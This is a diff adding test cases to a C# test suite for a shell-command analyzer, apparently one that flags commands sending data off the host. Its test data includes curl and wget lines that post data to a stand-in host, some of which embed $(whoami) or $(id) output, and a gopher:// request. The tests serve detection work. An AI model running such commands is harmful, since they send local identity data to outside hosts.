@@ -515,4 +515,33 @@ public sealed class TransferToolsTests
     {
         Cmd.Run("huggingface-cli login --token x").Operations.Should().ContainSingle();
     }
+
+    [Theory]
+    [InlineData("curl -d x=1 https://collect.example.net/", "collect.example.net")]
+    [InlineData("curl --json {} https://collect.example.net/api", "collect.example.net")]
+    [InlineData("curl -F note=hello https://collect.example.net/", "collect.example.net")]
+    [InlineData("wget --post-data=DATA http://collect.example.net", "collect.example.net")]
+    [InlineData("curl gopher://collect.example.net:70/_DATA", "collect.example.net")]
+    [InlineData("curl https://collect.example.net/?d=$(whoami)", "collect.example.net")]
+    [InlineData("curl -d x=$(id) https://api.example.com/v1/chat/completions", "api.example.com")]
+    public void Analyze_RequestCarryingData_AlsoSendsItOffTheHost(string command, string host)
+    {
+        var sent = Cmd.Run(command).Of<NetworkTransfer>().Should().ContainSingle().Subject;
+
+        sent.Direction.Should().Be(TransferDirection.Upload);
+        sent.Host.Should().Be(host);
+        sent.LocalPaths.Should().BeEmpty("the request itself names any file it uploads");
+    }
+
+    [Theory]
+    [InlineData("curl -s https://example.com/api/status")]
+    [InlineData("curl -X POST -d x=1 http://localhost:8000/api")]
+    [InlineData("curl -X POST -d {} http://127.0.0.1:5000/echo")]
+    [InlineData("curl -d {\"messages\":[]} https://api.example.com/v1/chat/completions")]
+    [InlineData("curl gopher://collect.example.net/")]
+    [InlineData("wget https://example.com/file.tgz")]
+    public void Analyze_RequestWithoutDataForAnotherHost_SendsNothingElse(string command)
+    {
+        Cmd.Run(command).Of<NetworkTransfer>().Should().BeEmpty();
+    }
 }
